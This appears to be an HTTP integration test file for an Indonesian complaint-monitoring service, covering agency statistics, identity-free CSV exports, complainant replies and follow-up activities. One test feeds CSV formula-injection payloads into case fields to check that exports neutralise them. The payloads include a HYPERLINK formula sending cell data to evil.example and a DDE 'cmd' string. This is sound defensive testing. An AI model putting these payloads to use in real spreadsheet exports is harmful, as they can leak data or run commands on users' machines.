/** Statistics and spreadsheet exports over HTTP. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, complaint, type RunningPantau, startPantau, users } from '../support/runtime.ts';

let pantau: RunningPantau;
let http: ReturnType<typeof api>;
let as: ReturnType<typeof users>;

beforeAll(async () => {
  pantau = await startPantau({
    env: { PANTAU_CLOCK: 'manual', PANTAU_CLOCK_START: '2026-05-04T03:00:00.000Z' },
  });
  http = api(pantau.url);
  as = users(pantau.url);
});
afterAll(async () => {
  await pantau?.stop();
});

describe('statistics over HTTP', () => {
  it('reports response rates per agency as JSON and CSV, and exports cases without identity', async () => {
    const central = await as('setneg', 'central_officer');
    const ids: string[] = [];
    for (const agencies of [['polri', 'pln'], ['polri']]) {
      const created = await http.post('/v1/cases', complaint(), { token: central });
      ids.push(created.body.id);
      await http.post(
        `/v1/cases/${created.body.id}/verification`,
        { decision: 'accept', type: 'light' },
        { token: central },
      );
      await http.post(
        `/v1/cases/${created.body.id}/assignments`,
        { assignments: agencies.map((agencyId) => ({ agencyId })) },
        { token: central },
      );
    }
    const polri = await as('polri', 'agency_officer');
    await http.post(
      `/v1/cases/${ids[0]}/assignments/polri/responses`,
      { kind: 'final', message: 'Selesai.' },
      { token: polri },
    );

    const report = await http.get('/v1/stats/agencies?from=2026-05-01&to=2026-05-31', {
      token: central,
    });
    expect(report.status).toBe(200);
    const polriStats = report.body.items.find((s: { agencyId: string }) => s.agencyId === 'polri');
    expect(polriStats).toMatchObject({
      assigned: 2,
      responded: 1,
      respondedOnTime: 1,
      completed: 1,
      responseRate: 0.5,
      medianWorkingDaysToFirstResponse: 0,
      belowMinimumSample: true,
      rank: null,
    });
    expect(report.body.totals).toMatchObject({ assigned: 3, responded: 1 });
    expect(
      report.body.items.find((s: { agencyId: string }) => s.agencyId === 'setneg'),
    ).toBeUndefined();

    const csv = await http.get('/v1/stats/agencies.csv?from=2026-05-01&to=2026-05-31', {
      token: central,
    });
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const lines = csv.text.trim().split('\n');
    expect(lines[0]).toBe(
      'agencyId,assigned,redirected,responded,respondedOnTime,completed,responseRatePercent,onTimeRatePercent,medianWorkingDaysToFirstResponse,belowMinimumSample,rank',
    );
    expect(lines).toContain('polri,2,0,1,1,1,50.00,50.00,0,true,');
    expect(lines.at(-1)).toMatch(/^all,3,0,1,1,1,33\.33,33\.33,0,false,$/);

    const cases = await http.get('/v1/exports/cases.csv?from=2026-05-04&to=2026-05-04', {
      token: central,
    });
    expect(cases.text.split('\n')[0]).toBe(
      'id,trackingCode,status,channel,receivedAt,subject,type,category,agencies,overdue,outcome,closedAt',
    );
    for (const id of ids) expect(cases.text).toContain(id);
    expect(cases.text).toContain('pln polri');
    for (const secret of ['Siti Rahmawati', '5171034407850002', 'siti.rahmawati@example.com'])
      expect(cases.text).not.toContain(secret);
    const none = await http.get('/v1/exports/cases.csv?from=2026-04-01&to=2026-04-30', {
      token: central,
    });
    expect(none.text.trim().split('\n')).toHaveLength(1);

    expect((await http.get('/v1/stats/agencies', { token: polri })).status).toBe(403);
    expect((await http.get('/v1/exports/cases.csv', { token: polri })).status).toBe(403);
    expect((await http.get('/v1/stats/agencies')).status).toBe(401);
    const bad = await http.get('/v1/stats/agencies?from=2026-13-01', { token: central });
    expect(bad.status).toBe(400);
    expect(bad.body.errors[0].path).toBe('from');
    expect(
      (await http.get('/v1/stats/agencies?from=2026-06-01&to=2026-05-01', { token: central })).body
        .errors[0].path,
    ).toBe('from');
  });
});

/** RFC 4180 rows (quoted fields, doubled quotes, line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      endCell();
    } else if (!quoted && ch === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else {
      cell += ch;
    }
  }
  if (cell !== '' || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** What spreadsheets read as a formula at the start of a cell (OWASP; full-width forms too). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('spreadsheet exports neutralise formulas', () => {
  it('a subject or category that is a formula comes out as text in every CSV', async () => {
    const central = await as('setneg', 'central_officer');
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\uFF1D1+1', // ＝, the full-width equals sign some spreadsheets take for "="
    ];
    const ids = new Map<string, string>();
    for (const subject of hostile) {
      const created = await http.post('/v1/cases', complaint({ subject }), { token: central });
      expect(created.status, created.text).toBe(201);
      ids.set(created.body.id, subject);
    }
    // A category set at verification, and a subject that a ';'-separated spreadsheet (the
    // Indonesian locale's) would split into a second cell starting with "=".
    const split = await http.post('/v1/cases', complaint({ subject: 'Laporan;=1+1' }), {
      token: central,
    });
    const verified = await http.post(
      `/v1/cases/${split.body.id}/verification`,
      { decision: 'accept', type: 'light', category: '=1+2' },
      { token: central },
    );
    expect(verified.status, verified.text).toBe(200);

    const res = await http.get('/v1/exports/cases.csv?from=2026-05-04&to=2026-05-04', {
      token: central,
    });
    expect(res.status, res.text).toBe(200);
    const [header, ...rows] = parseCsv(res.text);
    const column = (name: string) => header!.indexOf(name);
    for (const [id, subject] of ids) {
      const row = rows.find((r) => r[0] === id)!;
      expect(row[column('subject')], subject).toBe(`'${subject}`);
    }
    const splitRow = rows.find((r) => r[0] === split.body.id)!;
    expect(splitRow[column('category')]).toBe("'=1+2");
    expect(splitRow[column('subject')]).toBe('Laporan;=1+1');
    expect(res.text).toContain('"Laporan;=1+1"'); // quoted: one cell whatever the separator

    const stats = await http.get('/v1/stats/agencies.csv?from=2026-05-01&to=2026-05-31', {
      token: central,
    });
    for (const csv of [res.text, stats.text]) {
      const cells = parseCsv(csv).flat();
      expect(cells.length).toBeGreaterThan(12);
      expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    }
  });
});

describe('complainant replies and monitoring activities over HTTP', () => {
  it('takes the complainant’s reply through the tracking code, and central’s activities', async () => {
    const central = await as('setneg', 'central_officer');
    const polri = await as('polri', 'agency_officer');
    const created = await http.post('/v1/cases', complaint(), { token: central });
    const { id, trackingCode } = created.body;
    await http.post(
      `/v1/cases/${id}/verification`,
      { decision: 'accept', type: 'light' },
      { token: central },
    );
    await http.post(
      `/v1/cases/${id}/assignments`,
      { assignments: [{ agencyId: 'polri' }] },
      { token: central },
    );
    const early = await http.post('/v1/track/reply', {
      code: trackingCode,
      satisfied: true,
      rating: 5,
    });
    expect(early.status).toBe(409);
    await http.post(
      `/v1/cases/${id}/assignments/polri/responses`,
      { kind: 'final', message: 'Selesai.' },
      { token: polri },
    );

    const tracked = await http.post('/v1/track', { code: trackingCode });
    expect(tracked.body).toMatchObject({ status: 'resolved' });
    expect(tracked.body.replyWindowClosesAt).toMatch(/Z$/);
    expect(
      (await http.post('/v1/track/reply', { code: trackingCode, satisfied: true, rating: 6 })).body
        .errors[0].path,
    ).toBe('rating');
    expect(
      (await http.post('/v1/track/reply', { code: 'ZZZZ-ZZZZ-ZZZZZ', satisfied: true, rating: 4 }))
        .status,
    ).toBe(404);
    const replied = await http.post('/v1/track/reply', {
      code: trackingCode,
      satisfied: false,
      rating: 2,
      message: 'Belum selesai.',
    });
    expect(replied.status).toBe(200);
    expect(replied.body).toMatchObject({ status: 'reopened', replyWindowClosesAt: null });
    expect(
      (await http.post('/v1/track/reply', { code: trackingCode, satisfied: true, rating: 5 }))
        .status,
    ).toBe(409);

    // Delegation: only the agency's coordinator, only to its own member units.
    const delegate = `/v1/cases/${id}/assignments/polri/delegate`;
    expect(
      (
        await http.post(
          delegate,
          { memberId: 'pemkot-jayapura' },
          { token: await as('pln', 'agency_coordinator') },
        )
      ).status,
    ).toBe(404);
    expect(
      (await http.post(delegate, { memberId: 'pemkot-jayapura' }, { token: polri })).status,
    ).toBe(403);
    expect(
      (
        await http.post(
          delegate,
          { memberId: 'Bad Id' },
          { token: await as('polri', 'agency_coordinator') },
        )
      ).body.errors[0].path,
    ).toBe('memberId');
    expect(
      (
        await http.post(
          delegate,
          { memberId: 'pln' },
          { token: await as('polri', 'agency_coordinator') },
        )
      ).status,
    ).toBe(400);
    expect((await http.post(delegate, { memberId: 'pln' }, { token: central })).status).toBe(403);

    const planned = await http.post(
      `/v1/cases/${id}/activities`,
      {
        kind: 'case_conference',
        scheduledAt: '2026-05-20T02:00:00.000Z',
        agencyIds: ['polri'],
        plan: 'Gelar pengaduan',
      },
      { token: central },
    );
    expect(planned.status).toBe(201);
    expect(planned.body).toMatchObject({ status: 'planned', kind: 'case_conference' });
    expect(
      (await http.post(`/v1/cases/${id}/activities`, { kind: 'picnic' }, { token: central })).body
        .errors[0].path,
    ).toBe('kind');
    expect(
      (await http.post(`/v1/cases/${id}/activities`, { kind: 'mediation' }, { token: polri }))
        .status,
    ).toBe(403);
    expect((await http.get(`/v1/cases/${id}`, { token: central })).body.underMonitoring).toBe(true);
    const calendar = await http.get('/v1/activities?status=planned', { token: central });
    expect(calendar.body.items.map((a: { id: string }) => a.id)).toContain(planned.body.id);
    expect((await http.get('/v1/activities', { token: polri })).status).toBe(403);
    const reported = await http.post(
      `/v1/cases/${id}/activities/${planned.body.id}/report`,
      { heldAt: '2026-05-04T02:00:00.000Z', outcome: 'Sepakat', summary: 'Ditindaklanjuti ulang.' },
      { token: central },
    );
    expect(reported.body).toMatchObject({ status: 'done', outcome: 'Sepakat' });
    expect(
      (
        await http.post(
          `/v1/cases/${id}/activities/${planned.body.id}/report`,
          { heldAt: '2026-05-04T02:00:00.000Z', outcome: 'x', summary: 'x' },
          { token: central },
        )
      ).status,
    ).toBe(409);
  });
});
